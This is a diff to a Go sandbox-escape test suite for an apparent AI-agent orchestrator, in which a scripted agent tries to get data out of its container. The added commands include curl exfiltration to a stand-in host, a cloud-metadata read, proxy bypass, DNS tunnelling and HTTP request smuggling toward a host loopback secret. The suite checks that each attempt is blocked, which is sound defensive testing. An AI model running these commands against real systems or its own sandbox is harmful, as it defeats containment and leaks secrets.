@@ -8,6 +8,7 @@ import (
 	"net/http"
 	"os"
 	"regexp"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -44,6 +45,13 @@ path = "/srv/herdctl/attacker-ro/agent.toml"
 path = "/srv/herdctl/bomber/agent.toml"
 
 [[agents]]
+path = "/srv/herdctl/leaker/agent.toml"
+  [agents.overrides.docker]
+  network = "egress"
+  egress = ["allowed.test:47998"]
+  egress_private = ["127.0.0.0/8"]
+
+[[agents]]
 path = "/srv/herdctl/victim/agent.toml"
   [agents.overrides]
   command = ["perl", "-MIO::Socket::INET", "-e", '$s = IO::Socket::INET->new(LocalAddr => "127.0.0.1:48000", Listen => 5, ReuseAddr => 1) or die $!; while ($c = $s->accept) { print $c "victim-secret\n"; close $c }']
@@ -55,6 +63,44 @@ const apiPort = "47123"
 // hostPort is a listener on the machine's own loopback that no agent was
 // granted.
 const hostPort = "47999"
+
+// allowedPort is a listener on the machine's loopback that the leaker
+// may reach, by the name allowed.test, through its egress proxy.
+const allowedPort = "47998"
+
+// egressAttacks are made by the leaker, an agent with network = "egress"
+// allowed only allowed.test:47998, to get anything else out.
+func egressAttacks() []attack {
+	proxy := "127.0.0.1:3128"
+	smuggle := func(id, first string) string {
+		return v + `out=$(perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("` + proxy + `") or die "proxy: $!"; print $s "` + first + `"; ` +
+			`if ("` + first + `" =~ /^CONNECT/) { sysread($s, $h, 4096); print $s "GET / HTTP/1.1\r\nHost: 127.0.0.1:` + hostPort + `\r\nConnection: close\r\n\r\n" } ` +
+			`local $/; $r = <$s>; $r =~ s/\r//g; print $h . $r' 2>&1); echo "$out" | grep -q host-secret && V ` + id + ` ESCAPED "$out" || V ` + id + ` BLOCKED "$out"`
+	}
+	return []attack{
+		{"egress-unlisted", "exfiltrate to a name not on the list (https)", "403 from the proxy", tryIt("egress-unlisted", "curl -fsS -m 5 'https://exfil.example.org/?d=secret'")},
+		{"egress-raw-ip", "exfiltrate to a raw IP address (http)", "403 from the proxy", tryIt("egress-raw-ip", "curl -fsS -m 5 http://1.1.1.1/")},
+		{"egress-metadata", "read the cloud metadata service", "403 from the proxy", tryIt("egress-metadata", "curl -fsS -m 5 http://169.254.169.254/latest/meta-data/")},
+		{"egress-port", "reach the host's loopback service through the listed name on another port", "403 from the proxy", tryIt("egress-port", "curl -fsS -m 5 http://allowed.test:"+hostPort+"/")},
+		{"egress-direct", "connect straight out, without the proxy", "no route", tryIt("egress-direct", "curl -fsS -m 5 --noproxy '*' http://1.1.1.1/")},
+		{"egress-dns", "tunnel data out through DNS (the container's resolver, or a resolver of its own)", "no answer, nothing sent",
+			v + `a=$(getent hosts leak-data.exfil.example.org 2>&1; echo "getent exit $?"); b=$(perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "1.1.1.1:53", Proto => "udp") or do { print "udp: $!"; exit 1 }; defined(send($s, "x" x 40, 0)) or do { print "send: $!"; exit 1 }; print "sent"'); out="$a; $b"; echo "$b" | grep -q '^sent' && V egress-dns ESCAPED "$out" || { echo "$a" | grep -q 'getent exit 0' && V egress-dns ESCAPED "$out" || V egress-dns BLOCKED "$out"; }`},
+		{"egress-smuggle-connect", "smuggle a request for the host's loopback service inside a CONNECT tunnel to the listed name", "it reaches the listed service, not the host's",
+			smuggle("egress-smuggle-connect", `CONNECT allowed.test:`+allowedPort+` HTTP/1.1
+Host: allowed.test:`+allowedPort+`
+
+`)},
+		{"egress-smuggle-pipelined", "pipeline a second request, for the host's loopback service, behind one to the listed name", "refused or sent to the listed service",
+			smuggle("egress-smuggle-pipelined", `GET http://allowed.test:`+allowedPort+`/ HTTP/1.1
+Host: allowed.test:`+allowedPort+`
+
+GET http://127.0.0.1:`+hostPort+`/ HTTP/1.1
+Host: 127.0.0.1:`+hostPort+`
+Connection: close
+
+`)},
+	}
+}
 
 // attack is one escape attempt, run by the agent as one Bash tool call.
 // The command prints VERDICT:<id>:BLOCKED|ESCAPED:<evidence>.
@@ -180,6 +226,7 @@ func TestEscapeSuite(t *testing.T) {
 		"/srv/herdctl/attacker-ro/agent.toml":                        "name = \"attacker-ro\"\ndefault_prompt = \"go\"\n[docker]\nworkspace_mode = \"ro\"\n",
 		"/srv/herdctl/bomber/agent.toml":                             "name = \"bomber\"\ndefault_prompt = \"go\"\n[docker]\nmemory = \"768m\"\n",
 		"/srv/herdctl/victim/agent.toml":                             "name = \"victim\"\n",
+		"/srv/herdctl/leaker/agent.toml":                             "name = \"leaker\"\ndefault_prompt = \"go\"\n",
 		"/srv/herdctl/victim/victim-canary.txt":                      "the victim's workspace\n",
 		"/var/lib/herdctl/agents/victim/home/victim-home-canary.txt": "the victim's home\n",
 	})
@@ -193,6 +240,15 @@ func TestEscapeSuite(t *testing.T) {
 	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, "host-secret") })}
 	go srv.Serve(ln)
 	t.Cleanup(func() { srv.Close() })
+	// The one service the leaker may reach, by name, through its proxy.
+	m.Sh("echo '127.0.0.1 allowed.test' >> /etc/hosts")
+	aln, err := testbed.ListenInNetns(m.PID, "127.0.0.1:"+allowedPort)
+	if err != nil {
+		t.Fatal(err)
+	}
+	allowed := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, "allowed-service") })}
+	go allowed.Serve(aln)
+	t.Cleanup(func() { allowed.Close() })
 	m.Start()
 	m.Run("herdctlctl", "trigger", "victim")
 
@@ -225,6 +281,31 @@ func TestEscapeSuite(t *testing.T) {
 	}
 	if job.Status != api.StatusCompleted {
 		t.Errorf("attacker job: %s (%s)", job.Status, job.ExitReason)
+	}
+
+	// Egress: the leaker may reach allowed.test:47998 and nothing else.
+	leaks := egressAttacks()
+	script = []testbed.Turn{{Tool: "Bash", Input: map[string]any{"command": v + `out=$(curl -fsS -m 5 http://allowed.test:` + allowedPort + `/ 2>&1); V egress-allowed INFO "$out"`}}}
+	for _, a := range leaks {
+		script = append(script, testbed.Turn{Tool: "Bash", Input: map[string]any{"command": a.command, "description": a.id}})
+	}
+	script = append(script, testbed.Turn{Text: "done"})
+	lj, stand := runAttackJob(m, "leaker", script)
+	got = verdicts(stand)
+	if ok := got["egress-allowed"]; !strings.Contains(ok[1], "allowed-service") {
+		t.Errorf("the leaker could not reach its one allowed name, so its refusals prove nothing: %q", ok[1])
+	}
+	for _, a := range leaks {
+		vd, ok := got[a.id]
+		if !ok {
+			record(a.what, a.expected, "no verdict (the tool call did not report)", false)
+			continue
+		}
+		record(a.what, a.expected, vd[1], vd[0] == "BLOCKED")
+	}
+	denials, _ := m.Try("sh", "-c", "journalctl --no-pager -o cat HERDCTL_JOB="+lj.ID+" HERDCTL_EGRESS=deny | wc -l")
+	if n, _ := strconv.Atoi(strings.TrimSpace(denials)); n < 4 || lj.EgressDenied < 4 {
+		t.Errorf("the leaker's refusals: %s deny entries in the journal, %d in the record", strings.TrimSpace(denials), lj.EgressDenied)
 	}
 
 	// A read-only workspace.
@@ -284,7 +365,7 @@ func TestEscapeSuite(t *testing.T) {
 	record("the agent rewrites its own agent file to grant itself network = host, volumes = [\"/:/host\"], user = \"0:0\" and an image; systemctl reload herdctl",
 		"the agent is left out (its timers stop) with file:line for each field, logged, and systemctl reload fails; the others run on; restored, the next job runs exactly as before",
 		fmt.Sprintf("reload exit %d; left out: %s; %d agents ran on; next job after the restore: %s", reloadCode, strings.Join(fields, ", "), st.Agents, after),
-		reloadCode != 0 && len(fields) == 4 && st.Agents == 3 && strings.Contains(logged, "/srv/herdctl/attacker/agent.toml:") &&
+		reloadCode != 0 && len(fields) == 4 && st.Agents == 4 && strings.Contains(logged, "/srv/herdctl/attacker/agent.toml:") &&
 			strings.HasPrefix(after, "uid 1000, interfaces: lo ") && strings.Contains(after, "No such file"))
 
 	// The agent replaces its agent file by a link to a file only root may
@@ -330,7 +411,9 @@ func TestEscapeSuite(t *testing.T) {
 	}
 	writeSecurityDoc(t, "Attacks from inside the container", `Each attack is made by the real Claude Code CLI, in `+"`bypassPermissions`"+` mode, as a Bash tool
 call scripted by a stand-in API, inside a herdctl agent container (host image, network `+"`none`"+`, uid 1000,
-default limits).`, rows)
+default limits). The egress rows are made by an agent with network `+"`egress`"+` whose fleet allows it one
+name and port, allowed.test:47998 (a service on the machine's loopback, with 127.0.0.0/8 in its
+`+"`egress_private`"+`), which it does reach.`, rows)
 }
 
 func orNone(s string) string {
